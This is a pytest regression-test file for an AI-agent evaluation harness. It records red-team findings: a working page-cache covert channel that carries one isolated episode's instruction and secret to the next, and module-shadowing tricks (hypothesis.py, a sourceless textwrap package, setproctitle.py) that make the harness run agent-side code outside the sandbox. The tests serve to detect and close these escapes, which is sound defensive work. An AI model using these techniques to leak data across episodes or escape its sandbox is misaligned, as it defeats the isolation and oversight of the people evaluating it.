"""Red team 9: the page cache as a channel from one isolated episode to the next, and a module in
the agent's folder named like code a pytest plugin imports late; each one that got through pinned here."""

from __future__ import annotations

import importlib.util
import os
from pathlib import Path

import pytest

from tests.helpers.sandboxing import needs_bwrap
from tests.helpers.shadowing import NOOP_AGENT, SHADOW, imported_by_the_harness, run_isolated
from tests.helpers.tasks import task_line

DOCS = Path(__file__).parent.parent / "docs"

# Which pages of a file every sandbox can read are cached is kernel state no namespace makes
# private: the episode playing leaves its task there, the next one's import reads it back
# (preadv2 with RWF_NOWAIT fails on a page not cached: no timing needed).
PAGE_CACHE_CHANNEL = '''
import os, sys

STDLIB = os.path.dirname(os.__file__)  # every sandbox reads it; its largest file not code is read by no one
SIZE, PATH = max((os.path.getsize(os.path.join(d, f)), os.path.join(d, f)) for d, _, files in os.walk(STDLIB)
                 for f in files if not f.endswith((".py", ".pyc", ".so")))
STRIDE = 8 * 4096
BITS = min(8 * 40, SIZE // STRIDE)
BASE = 0


def _open():
    fd = os.open(PATH, os.O_RDONLY)
    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # no readahead: one page read is one page cached
    return fd


def _cached(fd, page):
    try:
        os.preadv(fd, [bytearray(1)], (BASE + page) * STRIDE, os.RWF_NOWAIT)
        return True
    except BlockingIOError:
        return False


def receive():
    fd = _open()
    bits = [_cached(fd, i) for i in range(BITS)]
    os.close(fd)
    return bytes(sum(1 << j for j in range(8) if bits[k + j]) for k in range(0, BITS, 8))


def send(message):
    fd = _open()
    os.posix_fadvise(fd, (BASE) * STRIDE, BITS * STRIDE, os.POSIX_FADV_DONTNEED)
    for k, byte in enumerate(message[: BITS // 8]):
        for j in range(8):
            if byte >> j & 1:
                os.pread(fd, 1, (BASE + k * 8 + j) * STRIDE)
    os.close(fd)


HEARD = receive()


class Agent:
    def run(self, episode):
        send(episode.instruction.encode())
        raise RuntimeError(f"I am {episode.task_id}; HEARD {HEARD!r}")
'''


@needs_bwrap
def test_the_page_cache_carries_an_episode_to_the_next_and_the_docs_say_so(pytester: pytest.Pytester) -> None:
    """Serially the waiting sandbox imports the agent only once the episode before is gone (locks
    carried a task on), but the page cache outlives every sandbox: the agent leaves pages of a
    file all sandboxes read cached or dropped, and the next episode's import reads which. The
    next episode heard the one before (also under -n 2, --agenteval-concurrency 4, as an
    unprivileged user, and across runs), while isolation.md said none leaves anything behind for
    a later one. No namespace or seccomp filter stops the timing variant: the docs must say it."""
    lines = [task_line(task_id=f"EX-{i}", instruction=f"Close ticket T-0001. secret-{i}-xyzzy") for i in (1, 2)]
    pytester.makefile(".jsonl", t="\n".join(lines))
    pytester.makepyfile(chan=PAGE_CACHE_CHANNEL)
    os.chmod(pytester.path, 0o755)
    result = pytester.runpytest_subprocess("t.jsonl", "--agent=chan:Agent", "--agenteval-isolate",
                                           "-p", "no:randomly", "-p", "no:cacheprovider")
    if "I am EX-2; HEARD b'Close ticket T-0001. secret-1-xyzzy" not in result.stdout.str():
        pytest.skip("the page cache carried nothing here (no RWF_NOWAIT, or a file too small)")
    text = (DOCS / "isolation.md").read_text() + (DOCS / "threat-model.md").read_text()
    assert "none leaves anything behind for a later one" not in text
    assert "page cache" in (DOCS / "threat-model.md").read_text()
    assert "page cache" in (DOCS / "isolation.md").read_text()


@pytest.mark.skipif(importlib.util.find_spec("hypothesis") is None, reason="needs hypothesis's pytest plugin")
def test_a_module_named_like_code_a_plugin_imports_late_is_not_run_by_the_harness(pytester: pytest.Pytester) -> None:
    """The stdlib-shadowing refusal checked standard names and installed modules already loaded
    when it ran; hypothesis's pytest plugin imports ``hypothesis`` for the header under ``-v``,
    later: ``hypothesis.py`` beside the agent ran in the harness, as root, outside every sandbox
    (so did ``sortedcontainers.py``, which hypothesis imports)."""
    pytester.makepyfile(hypothesis=SHADOW, agent=NOOP_AGENT)
    done = run_isolated(pytester.path, "-v", tasks=1)
    assert not imported_by_the_harness(pytester.path)
    assert done.returncode == pytest.ExitCode.USAGE_ERROR, done.stdout
    assert "hypothesis.py (shadows hypothesis)" in done.stderr


SHADOW_PACKAGE = '''
import os, sys

here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
if not any(arg.endswith("_child.py") for arg in sys.argv):  # not the sandbox's child: the harness
    with open(os.path.join(here, "imported-by-the-harness"), "a") as file:
        file.write(repr(sys.argv[:1]) + "\\n")
saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules[__name__]
import importlib
real = importlib.import_module(__name__)
sys.path[:] = saved
sys.modules[__name__] = real
'''


def test_a_package_with_only_a_compiled_init_named_like_a_standard_module_is_refused(
        pytester: pytest.Pytester) -> None:
    """A folder counted as a package only with an ``__init__.py``: ``textwrap/__init__.pyc``
    alone (Python imports a sourceless package as readily) passed the check, and both xdist
    workers imported it, as the harness's user, outside every sandbox."""
    import py_compile

    source = pytester.path / "shim.py"
    source.write_text(SHADOW_PACKAGE)
    (pytester.path / "textwrap").mkdir()
    py_compile.compile(str(source), cfile=str(pytester.path / "textwrap" / "__init__.pyc"), doraise=True)
    source.unlink()
    pytester.makepyfile(agent=NOOP_AGENT)
    done = run_isolated(pytester.path, "-n", "2")
    assert not imported_by_the_harness(pytester.path)
    assert done.returncode == pytest.ExitCode.USAGE_ERROR, done.stdout
    assert "(shadows textwrap)" in done.stderr


def test_a_module_named_like_an_optional_import_of_xdist_is_not_run_by_the_harness(
        pytester: pytest.Pytester) -> None:
    """Installed nowhere, so the check let it pass: xdist's ``remote.py`` tries ``from setproctitle
    import setproctitle`` in every worker as it starts (the working folder first on ``sys.path``)
    and in the controller once rootdir is first; ``setproctitle.py`` beside the agent ran in all
    three, as the harness's user, outside every sandbox."""
    pytester.makepyfile(setproctitle=SHADOW.replace("import importlib\nreal = importlib.import_module(__name__)",
                                                    "raise ImportError('not installed')"), agent=NOOP_AGENT)
    done = run_isolated(pytester.path, "-n", "2")
    assert not imported_by_the_harness(pytester.path)
    assert done.returncode == pytest.ExitCode.USAGE_ERROR, done.stdout
    assert "setproctitle.py (shadows setproctitle)" in done.stderr
